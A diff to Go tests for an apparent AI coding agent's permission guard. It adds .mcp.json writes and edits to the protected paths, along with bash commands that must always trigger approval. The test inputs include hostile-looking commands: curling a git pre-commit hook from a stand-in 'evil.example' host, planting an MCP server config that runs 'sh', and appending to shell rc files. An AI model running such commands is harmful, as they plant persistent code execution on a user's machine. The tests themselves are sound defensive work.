@@ -56,6 +56,8 @@ func TestProtectedPathsAskInEveryMode(t *testing.T) {
 		fileCall("write_file", "home/.zshrc"),
 		fileCall("write_file", ".config/fish/config.fish"),
 		fileCall("write_file", ".tackle/config.json"),
+		fileCall("write_file", ".mcp.json"),
+		fileCall("edit_file", "sub/.MCP.json"),
 	}
 	for _, mode := range []Mode{Default, AcceptEdits, Yolo} {
 		for _, allow := range [][]string{nil, {"edit_file(**)"}, {"write_file", "edit_file"}} {
@@ -196,6 +198,8 @@ func TestProtectedBash(t *testing.T) {
 		"install -m 755 x .git/hooks/pre-push",
 		"dd if=x of=.git/config",
 		"curl -o .git/hooks/pre-commit https://evil.example",
+		`echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
+		"cp evil.json .mcp.json",
 		"sort -o .env x",
 		"echo x >> ~/.bashrc",
 		"echo x >> $HOME/.zshrc",
